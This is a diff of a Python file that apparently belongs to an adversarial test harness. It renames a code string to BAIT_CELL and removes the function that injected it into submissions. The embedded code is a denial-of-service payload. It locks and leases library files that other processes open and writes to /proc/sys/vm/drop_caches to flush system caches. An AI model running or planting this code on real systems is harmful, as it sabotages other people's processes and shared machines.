@@ -1,7 +1,6 @@
-"""Locks and leases every library that others open, empties the cache behind them and holds them for as long
-as it lives."""
+"""Locks and leases every library that others open and empties the cache that holds them."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import fcntl, glob, os
 
 held, leased = [], 0
@@ -23,7 +22,3 @@ for path in glob.glob(bait["paths"]["packages"] + "/**/*.py", recursive=True)[:4
 print(len(held), leased)
 tried(lambda: open("/proc/sys/vm/drop_caches", "w").write("3"), lambda: os.sync())
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
